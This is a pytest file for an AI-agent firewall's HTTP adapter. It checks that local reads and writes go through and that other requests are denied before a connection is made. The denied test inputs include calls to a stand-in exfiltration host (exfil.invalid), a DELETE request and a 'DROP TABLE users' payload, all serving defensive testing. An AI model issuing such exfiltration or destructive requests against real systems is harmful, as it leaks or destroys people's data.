"""The generic HTTP adapter on a real httpx.Client against a local fake
service: local reads and writes are allowed, anything else is denied before
a connection is made."""

from __future__ import annotations

import asyncio
import json

import httpx
import pytest

from conftest import AGENT_TOKEN, Server
from fakes import HttpRecorder
from parallax_client import AsyncParallax, Denied, Firewall, Parallax
from parallax_client.adapters.http import HttpAdapter


def test_local_requests_go_through(server: Server, recorder: HttpRecorder) -> None:
    fw = Firewall(Parallax(server.url, token=AGENT_TOKEN, timeout=10))
    with httpx.Client() as raw:
        http = fw.wrap(HttpAdapter(raw))
        assert http.get(recorder.url + "/items", params={"q": "x"}).json()["ok"] is True
        r = http.post(recorder.url + "/items", json={"name": "lamp"}, headers={"x-api-key": "k"})
        assert r.status_code == 200
    get, post = recorder.requests
    assert (get.method, get.path) == ("GET", "/items?q=x")
    assert (post.method, json.loads(post.body)) == ("POST", {"name": "lamp"})


def test_a_request_elsewhere_is_denied_without_connecting(server: Server, recorder: HttpRecorder) -> None:
    fw = Firewall(Parallax(server.url, token=AGENT_TOKEN, timeout=10))
    with httpx.Client() as raw:
        http = fw.wrap(HttpAdapter(raw))
        with pytest.raises(Denied) as e:
            # .invalid never resolves; the adapter must not even try.
            http.get("http://exfil.invalid/collect")
        assert e.value.rule_ids == ["policy.default"]
        with pytest.raises(Denied) as e:
            http.request("DELETE", recorder.url + "/items/1")
        assert e.value.call is not None and e.value.call.tool_name == "http.delete"
        with pytest.raises(Denied):
            http.post(recorder.url + "/sql", content="DROP TABLE users")
    assert recorder.requests == []


def test_async_client_through_async_parallax(server: Server, recorder: HttpRecorder) -> None:
    async def main() -> None:
        fw = Firewall(AsyncParallax(server.url, token=AGENT_TOKEN, timeout=10))
        async with httpx.AsyncClient() as raw:
            http = fw.wrap(HttpAdapter(raw))
            r = await http.get(recorder.url + "/a")
            assert r.json()["ok"] is True
            with pytest.raises(Denied):
                await http.put("http://exfil.invalid/x", content="data")

    asyncio.run(main())
    assert [r.path for r in recorder.requests] == ["/a"]
